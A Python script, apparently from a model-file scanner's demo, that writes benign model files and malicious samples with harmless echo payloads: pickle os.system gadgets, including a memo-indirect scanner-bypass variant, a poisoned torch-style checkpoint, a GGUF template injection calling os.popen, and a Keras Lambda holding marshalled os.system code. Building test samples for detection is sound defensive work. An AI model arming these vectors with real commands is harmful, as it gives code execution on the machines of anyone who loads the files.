"""Write the demo's sample set: benign model files and malicious ones with harmless payloads.

Every payload only echoes a string, and nothing here ever loads what it writes.
Usage: python examples/make_samples.py OUT_DIR
"""

from __future__ import annotations

import base64
import io
import json
import marshal
import os
import pickle
import struct
import sys
import zipfile
from collections import OrderedDict
from datetime import UTC, datetime
from pathlib import Path

import numpy as np

PAYLOAD = "echo garrison-demo"


class _Payload:
    """Pickles to os.system(PAYLOAD); the object is never unpickled here."""

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return (os.system, (PAYLOAD,))


def safetensors_bytes(tensors: dict[str, tuple[list[int], tuple[int, int]]]) -> bytes:
    header = {
        name: {"dtype": "F32", "shape": shape, "data_offsets": list(span)}
        for name, (shape, span) in tensors.items()
    }
    raw = json.dumps(header).encode()
    raw += b" " * (-len(raw) % 8)
    end = max(span[1] for _, span in tensors.values())
    return struct.pack("<Q", len(raw)) + raw + bytes(end)


def gguf_bytes(template: str) -> bytes:
    def text(value: str) -> bytes:
        data = value.encode()
        return struct.pack("<Q", len(data)) + data

    kv = [("general.architecture", "llama"), ("tokenizer.chat_template", template)]
    out = b"GGUF" + struct.pack("<IQQ", 3, 0, len(kv))
    for key, value in kv:
        out += text(key) + struct.pack("<I", 8) + text(value)
    return out


CHATML = (
    "{% for message in messages %}{{ '<|im_start|>' + message['role'] + '\\n' + "
    "message['content'] + '<|im_end|>' + '\\n' }}{% endfor %}"
    "{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}"
)
SSTI = "{{ cycler.__init__.__globals__.os.popen('" + PAYLOAD + "').read() }}"


def memo_indirect_pickle() -> bytes:
    """STACK_GLOBAL whose module and name come out of the memo, as bypasses do."""

    def unicode(s: str) -> bytes:
        return b"\x8c" + bytes([len(s)]) + s.encode()

    return (
        b"\x80\x04"
        + unicode("os") + b"\x94"  # MEMOIZE -> 0
        + unicode("system") + b"\x94"  # MEMOIZE -> 1
        + b"0"  # POP: leaves nothing on the stack, the names live on in the memo
        + b"h\x00h\x01"  # BINGET 0, BINGET 1
        + b"\x93"  # STACK_GLOBAL
        + unicode(PAYLOAD) + b"\x85R."  # TUPLE1, REDUCE, STOP
    )  # fmt: skip


def torch_like_zip(data_pkl: bytes) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as zf:
        zf.writestr("archive/data.pkl", data_pkl)
        zf.writestr("archive/version", "3\n")
        zf.writestr("archive/data/0", bytes(64))
    return buf.getvalue()


def lambda_bytecode() -> str:
    """What Keras writes for a Lambda: base64 of the marshalled code (compiled, never run)."""
    source = "lambda x: __import__('os').system('" + PAYLOAD + "') or x"
    code = compile(source, "<demo>", "eval").co_consts[0]
    return base64.b64encode(marshal.dumps(code)).decode()


def keras_with_lambda() -> bytes:
    function = {"class_name": "__lambda__", "config": {"code": lambda_bytecode()}}
    config = {
        "class_name": "Sequential",
        "config": {
            "name": "demo",
            "layers": [
                {"class_name": "InputLayer", "config": {"batch_shape": [None, 4]}},
                {"class_name": "Lambda", "config": {"name": "lambda", "function": function}},
            ],
        },
    }
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("config.json", json.dumps(config))
        zf.writestr("metadata.json", json.dumps({"keras_version": "3.5.0"}))
    return buf.getvalue()


def write_samples(out: Path) -> list[Path]:
    benign, malicious = out / "benign", out / "malicious"
    benign.mkdir(parents=True, exist_ok=True)
    malicious.mkdir(parents=True, exist_ok=True)
    files = {
        benign / "weights.safetensors": safetensors_bytes(
            {"embed": ([4, 8], (0, 128)), "head": ([8, 2], (128, 192))}
        ),
        benign / "state.pkl": pickle.dumps(
            OrderedDict(step=1200, lr=3e-4, saved=datetime(2026, 1, 1, tzinfo=UTC)),
            protocol=4,
        ),
        benign / "tokenizer.gguf": gguf_bytes(CHATML),
        malicious / "payload.pkl": pickle.dumps(_Payload(), protocol=2),
        malicious / "memo_indirect.pkl": memo_indirect_pickle(),
        malicious / "checkpoint.pt": torch_like_zip(pickle.dumps({"w": _Payload()}, protocol=2)),
        malicious / "overlapping.safetensors": safetensors_bytes(
            {"a": ([4, 8], (0, 128)), "b": ([4, 8], (64, 192))}
        ),
        malicious / "template.gguf": gguf_bytes(SSTI),
        malicious / "lambda.keras": keras_with_lambda(),
    }
    for path, data in files.items():
        path.write_bytes(data)
    np.save(benign / "embeddings.npy", np.arange(32, dtype=np.float32).reshape(4, 8))
    return [*files, benign / "embeddings.npy"]


if __name__ == "__main__":
    if len(sys.argv) != 2:
        sys.exit("usage: make_samples.py OUT_DIR")
    written = write_samples(Path(sys.argv[1]))
    print(f"wrote {len(written)} sample files under {sys.argv[1]}/ (payloads only echo a string)")
